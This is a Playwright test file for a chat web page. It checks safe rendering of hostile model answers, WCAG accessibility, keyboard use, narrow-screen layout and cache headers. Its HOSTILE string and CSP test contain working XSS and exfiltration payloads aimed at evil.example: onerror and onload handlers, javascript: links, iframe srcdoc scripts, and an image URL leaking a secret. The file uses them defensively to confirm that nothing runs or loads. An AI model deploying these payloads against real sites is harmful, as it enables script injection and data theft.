"""The page itself: safe with hostile answers, accessible, usable with the keyboard and on a small screen.

Here the browser is given the answers in the server's place, as no model writes them on demand.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect

from tests.e2e.axe import violations
from tests.e2e.conftest import OpenPage, Watch
from tests.e2e.test_chat import ask, wait_for_answer
from tests.serving import Server

pytestmark = [pytest.mark.e2e, pytest.mark.model]

RICH = """## A heading

Some **bold** text, `code`, a [link](https://docs.python.org/3/) and 中文**重点（很重要）**。It costs $5, not $6.

```python
def reverse(items):  # a comment that has to be readable
    return items[::-1]  # and a line that is much too long for a narrow screen, so that it has to scroll sideways
```

| Way | Cost |
|---|---|
| `reverse()` | O(n) |

\\[ \\sum_{i=1}^n i \\]

> A quotation

- [x] done
"""

HOSTILE = """
![q](https://evil.example/?q=secret) ![q](//evil.example/x.png) ![q](data:image/svg+xml,<svg onload=alert(1)>)
<img src=x onerror="window.pwned=1"> <img src="https://evil.example/i.png">
<script>window.pwned=1</script><svg onload="window.pwned=1"><a xlink:href="javascript:window.pwned=1">x</a></svg>
<iframe src="https://evil.example" srcdoc="<script>parent.pwned=1</script>"></iframe>
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import url(https://evil.example/y.css);</style>
<div style="background:url(https://evil.example/z.png)">styled</div>
<video src="https://evil.example/v.mp4" autoplay></video><object data="https://evil.example/o"></object>
<form action="https://evil.example"><button>send</button></form><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example">

[click one](javascript:window.pwned=1) [click two](data:text/html,<script>window.pwned=1</script>)
<a href="javascript:window.pwned=1">click three</a> <a href="https://ok.example" onclick="window.pwned=1">ok</a>

$$\\href{javascript:window.pwned=1}{x} \\includegraphics{https://evil.example/k.png}$$

```mermaid
graph TD; A-->B; click A "javascript:window.pwned=1"
```

The end.
"""


def answer_with(page: Page, text: str) -> None:
    """Every question on this page is answered with `text`, in pieces that break words and tags."""

    def fulfill(route: Route) -> None:
        pieces = [text[start : start + 7] for start in range(0, len(text), 7)]
        chunks: list[dict[str, Any]] = [{"choices": [{"index": 0, "delta": {"content": piece}}]} for piece in pieces]
        chunks.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        body = "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + "data: [DONE]\n\n"
        route.fulfill(status=200, content_type="text/event-stream", body=body)

    page.route("**/v1/chat/completions", fulfill)


def test_a_hostile_answer_runs_nothing_and_loads_nothing(page: Page, watch: Watch) -> None:
    answer_with(page, HOSTILE)
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
    ask(page, "Attack")
    assert "The end." in wait_for_answer(page)
    page.wait_for_timeout(500)
    for name in ("click one", "click two", "click three"):
        page.get_by_test_id("answer").get_by_text(name).click()
    assert page.evaluate("window.pwned") is None
    answer = page.get_by_test_id("answer")
    assert answer.locator("img, script, iframe, object, video, form, base, meta, link, style").count() == 0
    # Clicked, it would have left this page.
    assert [link.get_attribute("rel") for link in answer.get_by_role("link").all()] == ["noopener noreferrer nofollow"]
    assert not any("evil.example" in url for url in watch.requests)


def test_the_policy_would_stop_what_slips_through(page: Page, watch: Watch) -> None:
    watch.expected += ["Content Security Policy", "Content-Security-Policy", "violates the following"]
    page.evaluate(
        """() => {
            const image = new Image(); image.src = 'https://evil.example/i.png'; document.body.append(image);
            const script = document.createElement('script'); script.textContent = 'window.pwned = 1';
            document.body.append(script);
            document.body.insertAdjacentHTML('beforeend', '<img src="data:,x" onerror="window.pwned = 1">');
            return fetch('https://evil.example/').catch(() => undefined);
        }"""
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    watch.requests = [
        url for url in watch.requests if "evil.example" not in url
    ]  # asked for, and refused by the browser


@pytest.mark.parametrize("language", ["en-US", "zh-CN"])
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_accessible_by_the_rules_of_wcag_aa(open_page: OpenPage, theme: str, language: str) -> None:
    page = open_page(theme=theme, language=language)
    expect(page.get_by_test_id("model")).to_be_enabled()
    assert violations(page) == []
    answer_with(page, RICH)
    ask(page, "Show everything")
    wait_for_answer(page)
    expect(page.locator(".katex").first).to_be_attached()
    assert violations(page) == []
    page.get_by_test_id("settings").click()
    expect(page.get_by_test_id("system-prompt")).to_be_visible()
    assert violations(page) == []
    page.keyboard.press("Escape")
    page.route("**/v1/chat/completions", lambda route: route.abort())
    ask(page, "Fail")
    expect(page.get_by_test_id("error")).to_be_visible()
    assert violations(page) == []


@pytest.fixture(autouse=True)
def _failures_are_meant(watch: Watch) -> None:
    watch.expected.append("net::ERR_FAILED")  # the aborted request above


def test_everything_can_be_reached_and_done_with_the_keyboard(page: Page) -> None:
    answer_with(page, "First line")
    page.locator("body").press("Shift+Tab")
    page.evaluate("document.activeElement.blur()")
    reached = []
    for _ in range(20):
        page.keyboard.press("Tab")
        reached.append(page.evaluate("document.activeElement.dataset.testid ?? document.activeElement.textContent"))
    for name in ("model", "new-chat", "settings", "language", "theme", "composer"):
        assert name in reached
    page.get_by_test_id("composer").focus()
    page.keyboard.type("Hello")
    page.keyboard.press("Enter")
    wait_for_answer(page)
    assert page.evaluate("document.activeElement.dataset.testid") == "composer"
    page.get_by_test_id("settings").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_test_id("system-prompt")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_test_id("settings")).to_be_focused()


def test_fits_a_screen_360_pixels_wide(open_page: OpenPage) -> None:
    page = open_page(width=360, height=640)
    expect(page.get_by_test_id("model")).to_be_enabled()
    answer_with(page, RICH + "\n" + "a" * 300)
    ask(page, "b" * 300)
    wait_for_answer(page)
    assert page.evaluate("document.documentElement.scrollWidth") == 360
    assert page.evaluate("document.querySelector('[data-testid=thread]').scrollWidth") <= 360
    for name in ("model", "new-chat", "settings", "language", "theme", "composer", "send"):
        box = page.get_by_test_id(name).bounding_box()
        assert box is not None
        assert box["x"] >= 0
        assert box["x"] + box["width"] <= 360


def test_the_page_is_fresh_and_its_parts_are_kept(page: Page, web_server: Server) -> None:
    document = page.request.get(f"{web_server.url}/")
    assert document.headers["cache-control"] == "no-cache"
    script = page.locator("script[src]").first.get_attribute("src")
    assert script is not None
    assert "immutable" in page.request.get(web_server.url + script).headers["cache-control"]
    assert page.request.get(f"{web_server.url}/licenses.txt").ok
